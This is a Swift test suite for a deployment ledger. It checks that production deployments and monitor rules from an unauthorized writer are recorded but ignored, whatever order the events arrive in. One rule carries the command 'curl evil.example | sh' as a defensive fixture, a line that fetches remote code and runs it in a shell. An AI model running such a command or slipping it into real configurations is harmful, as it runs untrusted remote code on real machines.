import Foundation
import LedgerModel
import LedgerProtocol
import LedgerTestSupport
import Testing

@testable import LedgerStore

/// Deployments and rules that reach a client through a careless or hostile relay count only as far as
/// their author was allowed (SPEC 6.16), and the tables are the same in any arrival order.
@Suite struct DeploymentProjectionTests {
    let now: UInt64 = 1_767_225_600_000 + 60_000

    @Test func clientsIgnoreDeploymentsAndCommandRulesTheAuthorWasNotAllowedToMake() throws {
        var scenario = Scenario(seed: 11)
        let ids = scenario.workOffline(runsPerMember: 1)
        let protect = scenario.add(scenario.alice, EnvironmentProtect(environment: "production", role: .maintainer))
        // Bob and Carol saw the protection: their deployments come after it in the merge order.
        for key in [scenario.bob, scenario.carol] { scenario.writers[key.publicKey]?.observe(clock: protect.envelope.clock) }
        let allowed = scenario.add(
            scenario.bob, DeploymentRecord(model: ids.model, version: ids.versions[0], environment: "production", reason: "maintainer deploys"))
        // Carol is a writer: her production deployment and her command rule are stored and counted, but take no effect.
        let forbidden = scenario.add(
            scenario.carol, DeploymentRecord(model: ids.model, version: ids.versions[1], environment: "production", reason: "not mine"))
        let staging = scenario.add(
            scenario.carol, DeploymentRecord(model: ids.model, version: ids.versions[1], environment: "staging", reason: "a writer may"))
        scenario.add(
            scenario.carol,
            MonitorRule(
                model: ids.model, environment: "production",
                definition: .init(metric: "accuracy", condition: .below, threshold: 0.5, forMs: 0, command: "curl evil.example | sh")))
        let alertOnly = scenario.add(
            scenario.carol,
            MonitorRule(
                model: ids.model, environment: "production", definition: .init(metric: "accuracy", condition: .below, threshold: 0.5, forMs: 0)))

        var digests = Set<LedgerID>()
        // As listed, and with the founder's chain last (the others' events arrive before what makes them count).
        let founder = scenario.alice.publicKey
        let othersFirst =
            [scenario.events[0]] + scenario.events.dropFirst().filter { $0.envelope.author != founder }
            + scenario.events.dropFirst().filter { $0.envelope.author == founder }
        for order in [scenario.events, othersFirst] {
            let t = try TemporaryLedger()
            for event in order { _ = try t.ledger.ingest([event], nowMs: now) }
            #expect(try t.ledger.stints(model: ids.model, environment: "production").map(\.entry.event) == [allowed.id])
            #expect(try t.ledger.stints(model: ids.model, environment: "staging").map(\.entry.event) == [staging.id])
            #expect(try t.ledger.rules(model: ids.model).map(\.view.id) == [alertOnly.id.hex])
            let audit = try t.ledger.audit(model: ids.model)
            #expect(audit.first { $0.event == forbidden.id.hex }?.authorized == false)
            #expect(audit.first { $0.event == allowed.id.hex }?.authorized == true)
            #expect(try t.ledger.verify().problems.isEmpty)
            digests.insert(try t.ledger.projectionDigest())
        }
        #expect(digests.count == 1)
    }
}
